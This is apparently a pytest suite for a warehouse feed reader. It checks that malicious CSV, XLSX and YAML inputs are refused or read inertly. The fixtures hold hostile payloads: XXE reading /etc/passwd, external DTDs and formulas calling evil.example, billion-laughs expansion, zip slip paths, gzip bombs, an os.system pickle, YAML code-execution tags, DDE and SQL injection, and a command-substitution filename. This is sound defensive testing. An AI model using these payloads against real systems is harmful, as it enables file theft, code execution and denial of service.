"""Hostile deliveries and mappings: refused in one sentence or read as the text that they are; nothing runs, nothing is fetched."""

import gzip
import io
import os
import resource
import socket
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from warehouse.feeds.mapping import MappingError, read_mapping
from warehouse.feeds.readers import FileRefused, Limits, open_table
from warehouse.feeds.sources import files_in

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROWS = '<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>'
SMALL = Limits(unpacked=4 << 20, ratio=50, ratio_from=1 << 20)
ROOM = 3 << 30


@pytest.fixture(autouse=True)
def no_way_out(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """No connection leaves, and no more memory than 3 GB is taken."""

    def refuse(*asked: object) -> None:
        raise AssertionError(f"a connection was tried: {asked}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    before = resource.getrlimit(resource.RLIMIT_AS)
    used = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (used + ROOM, before[1]))
    yield
    resource.setrlimit(resource.RLIMIT_AS, before)


def workbook(
    rows: str = ROWS, *, sheet: str = "worksheets/sheet1.xml", before: str = "", relations: str = "", **parts: str
) -> bytes:
    """A workbook of one sheet, with whatever else."""
    made = {
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r1" Target="{sheet}" Type="t"/>{relations}</Relationships>',
        "xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>',
        **parts,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in made.items():
            archive.writestr(name, content)
    return out.getvalue()


def cell(inside: str, kind: str = "str") -> str:
    return ROWS + f'<row r="3"><c r="A3" t="{kind}">{inside}</c></row>'


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {n} "{f"&{b};" * 10}">' for b, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
FILES: dict[str, Callable[[], bytes]] = {
    "zero bytes": lambda: b"id,name\nx,a\x00b\n",
    "zero bytes alone": lambda: b"\x00" * 100_000,
    "a cell of a megabyte": lambda: b"id,name\nx," + b"y" * (1 << 20) + b"\n",
    "a quote that never ends": lambda: b'id,name\nx,"' + b"y\n" * 100_000,
    "a header of a million columns": lambda: b",".join(b"c%d" % n for n in range(100_000)) + b"\n",
    "a column of our own": lambda: b"load_id,file_id,row_number,ctid,xmin\n1,2,3,4,5\n",
    "a column that ends a statement": lambda: b'"x""; drop table vault.sealed; --",b\n1,2\n',
    "columns without sight": lambda: "\u202eid,\u200b,\ufeff\n1,2,3\n".encode(),
    "formulas": lambda: b'id,name\n=cmd|\'/C calc\'!A0,"=HYPERLINK(""http://evil.example"")"\n',
    "a web page": lambda: b"<html><script>alert(1)</script>",
    "deep lists": lambda: b"[" * 1_000_000,
    "deep objects": lambda: b'{"a":' * 200_000,
    "a program": lambda: b"\x7fELF" + bytes(range(256)) * 10,
    "a script": lambda: b"#!/bin/sh\ntouch RUN\n",
    "a pickle": lambda: b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93.",
    "a bomb of gzip": lambda: gzip.compress(b"id\n" + b"1\n" * (8 << 20)),
    "a bomb in a bomb": lambda: gzip.compress(gzip.compress(b"id\n" + b"1\n" * (8 << 20))),
    "half of gzip": lambda: gzip.compress(b"id\n1\n")[:-4],
    "parquet in name alone": lambda: b"PAR1" + b"\xff" * 100 + b"PAR1",
    "an archive of nothing": lambda: b"PK\x05\x06" + b"\0" * 18,
    "an archive with ways out": lambda: workbook(sheet="../../../../../etc/passwd"),
    "an archive with a root": lambda: workbook(sheet="/etc/passwd"),
    "parts that lead out": lambda: workbook(**{"../../RUN": "x", "/etc/cron.d/run": "x"}),
    "a workbook of laughs": lambda: workbook(cell("<v>&i;</v>"), before=LAUGHS),
    "a workbook with a file in it": lambda: workbook(
        cell("<v>&f;</v>"), before='<!DOCTYPE l [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    ),
    "a workbook with an address in it": lambda: workbook(
        cell("<v>&f;</v>"), before='<!DOCTYPE l SYSTEM "http://evil.example/x.dtd">'
    ),
    "laughs among the strings": lambda: workbook(
        cell("<v>0</v>", "s"), **{"xl/sharedStrings.xml": f'{LAUGHS}<sst xmlns="{MAIN}"><si><t>&i;</t></si></sst>'}
    ),
    "a bomb of a workbook": lambda: workbook(ROWS + "<!--" + " " * (8 << 20) + "-->"),
    "a dimension without end": lambda: workbook(ROWS.replace("<row", '<dimension ref="A1:XFD1048576"/><row', 1)),
    "a row far away": lambda: workbook(ROWS + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "a column that there is not": lambda: workbook(ROWS + '<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row>'),
    "a row below zero": lambda: workbook(ROWS + '<row r="-5"><c r="A-5"><v>1</v></c></row>'),
    "a row of letters": lambda: workbook(ROWS + '<row r="x"><c r="A1"><v>1</v></c></row>'),
    "a number of a million digits": lambda: workbook(cell(f"<v>{'9' * 1_000_000}</v>", "n")),
    "a number that is none": lambda: workbook(cell("<v>NaN</v>", "n")),
    "an endless number": lambda: workbook(cell("<v>1e999</v>", "n")),
    "a string that is not there": lambda: workbook(cell("<v>999999999</v>", "s")),
    "a string before the first": lambda: workbook(
        cell("<v>-1</v>", "s"), **{"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>a</t></si></sst>'}
    ),
    "a link to elsewhere": lambda: workbook(
        relations='<Relationship Id="r2" TargetMode="External" Target="http://evil.example/x" Type="t"/>'
    ),
    "a sheet that lies elsewhere": lambda: workbook(sheet="http://evil.example/worksheets/x.xml"),
    "a formula that calls home": lambda: workbook(cell('<f>WEBSERVICE("http://evil.example")</f><v>x</v>')),
    "a formula that runs": lambda: workbook(cell("<f>cmd|'/C calc'!A0</f><v>x</v>")),
    "an escaped zero byte": lambda: workbook(cell("<v>a_x0000_b</v>")),
    "elements without end": lambda: workbook("<a>" * 100_000),
    "a workbook of nothing": lambda: workbook(""),
    "macros": lambda: workbook(**{"xl/vbaProject.bin": "Sub AutoOpen()"}),
}


@pytest.mark.parametrize("make", FILES.values(), ids=FILES.keys())
def test_a_file_is_read_as_text_or_refused_in_one_sentence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make: Callable[[], bytes]
) -> None:
    path = tmp_path / "leads.csv"
    path.write_bytes(make())
    monkeypatch.chdir(tmp_path)
    said, cells = what_comes_of(path)
    assert not any("root:" in each or "\0" in each for each in (said, *cells))
    assert sum(map(len, cells)) < 4 << 20
    assert "\n" not in said
    assert len(said) < 400
    assert [each.name for each in tmp_path.iterdir()] == ["leads.csv"], "nothing was run or unpacked"


def what_comes_of(path: Path) -> tuple[str, list[str]]:
    """The refusal of a file behind its name, and the cells of one that is read."""
    try:
        table = open_table(path, limits=SMALL)
        return "", [cell for batch in table.batches() for _, row in batch for cell in row if cell]
    except FileRefused as refusal:
        return str(refusal).removeprefix(str(path)), []


MAPPING = "source: x\nfiles:\n  - pattern: '*.csv'\n    feeds: {branches: same}\n"
UNFOLDING = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9)
)
MERGING = "a0: &a0 {x: y}\n" + "".join(
    f"a{n}: &a{n} {{<<: *a{n - 1}, b{n}: {{<<: *a{n - 1}}}}}\n" for n in range(1, 40)
)
MAPPINGS = {
    "runs a command": "source: !!python/object/apply:os.system ['touch RUN']\n",
    "makes an object": "source: !!python/object/new:subprocess.Popen [['touch', 'RUN']]\n",
    "names a module": "source: !!python/module:os\n",
    "names a function": "source: !!python/name:os.system\n",
    "a tuple of Python": "source: !!python/tuple [a, b]\n",
    "a tag of its own": "source: !evil x\n",
    "a tag by address": "source: !<tag:yaml.org,2002:python/object/apply:os.system> ['touch RUN']\n",
    "a directive": "%TAG ! tag:yaml.org,2002:python/\n---\nsource: !object/apply:os.system ['touch RUN']\n",
    "names inside names": UNFOLDING,
    "blocks inside blocks": MERGING,
    "a node inside itself": "source: &a [*a]\n",
    "a block inside itself": "source: &a\n  <<: *a\n",
    "deep lists": "source: " + "[" * 50_000,
    "deep blocks": "{a: " * 50_000,
    "a name that there is not": "source: *gone\n",
    "two documents": f"{MAPPING}---\n{MAPPING}",
    "zero bytes": "source: a\x00b\n",
    "control characters": "source: a\x07\x1b[31mb\n",
    "the other direction": "source: \u202eabc\n",
    "a megabyte": f"source: {'x' * (1 << 20)}\n",
    "a key of a megabyte": f"{'x' * (1 << 20)}: y\n",
    "a file as source": "source: ../../../etc/passwd\n",
    "a pattern that leads out": MAPPING.replace("*.csv", "../../*.csv"),
    "an expression without end": MAPPING.replace(
        "branches: same", "branches: {where: {column: a, matches: '(a+)+$('}, columns: same}"
    ),
    "a statement as a zone": MAPPING.replace("source: x", 'source: x\nzone: "UTC\'; drop table vault.sealed; --"'),
    "a path as a zone": MAPPING.replace("source: x", "source: x\nzone: ../../../etc/passwd"),
    "a feed of ours": MAPPING.replace("branches: same", "../vault/sealed: same"),
    "a number for a list": "source: x\nfiles: 5\n",
    "a list for a name": "source: [x, y]\nfiles: []\n",
    "a page": "<html><script>alert(1)</script></html>\n",
}


@pytest.mark.parametrize("text", MAPPINGS.values(), ids=MAPPINGS.keys())
def test_a_mapping_is_words_or_refused_with_its_lines(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    path = tmp_path / "m.yaml"
    path.write_text(text, "utf-8")
    monkeypatch.chdir(tmp_path)
    for said in what_is_wrong(path):
        assert 0 < len(said) < 400
        assert "\n" not in said
    assert [each.name for each in tmp_path.iterdir()] == ["m.yaml"], "nothing was run"


def what_is_wrong(path: Path) -> list[str]:
    """What a mapping is refused for; nothing where it is taken, and then it fits no file but those of its patterns."""
    try:
        assert read_mapping(path).match("passwd") is None
    except MappingError as refusal:
        return [problem.told() for problem in refusal.problems]
    return []


@pytest.mark.parametrize(
    "name", ["leads.csv", "投诉.xlsx", "../leads.csv", "a b;$(touch x).csv", "--help.csv", "CON.csv"]
)
def test_a_link_out_of_the_folder_is_refused(tmp_path: Path, name: str) -> None:
    inside, outside = tmp_path / "in", tmp_path / "keys.json"
    inside.mkdir()
    outside.write_text("a secret")
    (inside / Path(name).name).symlink_to(outside)
    with pytest.raises(ValueError, match="leads out of") as error:
        files_in(inside)
    assert "a secret" not in str(error.value)


def test_a_link_inside_the_folder_and_the_folder_itself_are_fine(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "leads.csv").write_text("a\n1\n")
    (tmp_path / "in" / "latest.csv").symlink_to("leads.csv")
    (tmp_path / "link").symlink_to("in")
    assert [path.name for path in files_in(tmp_path / "link")] == ["latest.csv", "leads.csv"]


@pytest.mark.parametrize(
    "folder", ["/etc/passwd", "/nowhere", "../../../../etc/passwd", "a\nb", "http://evil.example/x"]
)
def test_what_is_no_folder_is_said_in_one_sentence(folder: str) -> None:
    with pytest.raises(NotADirectoryError, match="--from names the folder"):
        files_in(Path(folder))


def test_a_queue_in_the_folder_is_no_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "leads.csv")
    assert files_in(tmp_path) == ()
